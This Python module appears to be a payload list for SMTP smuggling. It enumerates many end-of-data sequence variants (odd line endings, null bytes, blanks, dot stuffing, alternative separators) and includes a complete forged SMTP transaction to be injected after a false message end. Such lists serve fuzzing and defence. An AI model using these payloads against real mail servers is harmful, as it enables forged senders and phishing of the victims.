"""What senders write into messages to make a server see an end where there is none, and a command behind it."""

from __future__ import annotations

import itertools

_LINE_ENDS = (b"\n", b"\r", b"\r\n", b"\r\r\n", b"\n\r")
FORGED = (
    b"MAIL FROM:<forged@example.net>\r\nRCPT TO:<victim@corp.example>\r\nDATA\r\n"
    b"From: forged@example.net\r\n\r\nForged.\r\n.\r\n"
)

SEQUENCES: tuple[bytes, ...] = (
    # a line end, a dot, a line end, of every kind
    *(before + b"." + behind for before, behind in itertools.product(_LINE_ENDS, repeat=2)),
    # with an octet in between that some software drops
    b"\r\n\0.\r\n",
    b"\r\n.\0\r\n",
    b"\r\0\n.\r\0\n",
    b"\n\0.\n",
    b"\n.\0\n",
    b"\r\n.\r\0\n",
    b"\r\n\x7f.\r\n",
    b"\r\n\xef\xbb\xbf.\r\n",
    # with blanks
    b"\r\n .\r\n",
    b"\r\n. \r\n",
    b"\n.\t\n",
    # dots, more of them, or stuffed already
    b"\r\n..\r\n",
    b"\n..\n",
    b"\r\n.\r\n.\r\n",
    b"\n.\n.\n",
    b"\r\n..\r\n.\r\n",
    b"\r..\r.\r",
    # the end cut short
    b"\r\n.",
    b"\n.",
    b"\r\n",
    b"\r",
    b"\n",
    b".",
    # what other software takes for a line end
    b"\x0b.\x0b",
    b"\x0c.\x0c",
    b"\x1c.\x1c",
    b"\x85.\x85",
    b"\xc2\x85.\xc2\x85",
    b"\xe2\x80\xa8.\xe2\x80\xa8",
    # a command at once
    b"\r\n.\r\nQUIT\r\n",
    b"\n.\nRSET\n",
    b"\r\n.\r\nBDAT 5 LAST\r\n",
)
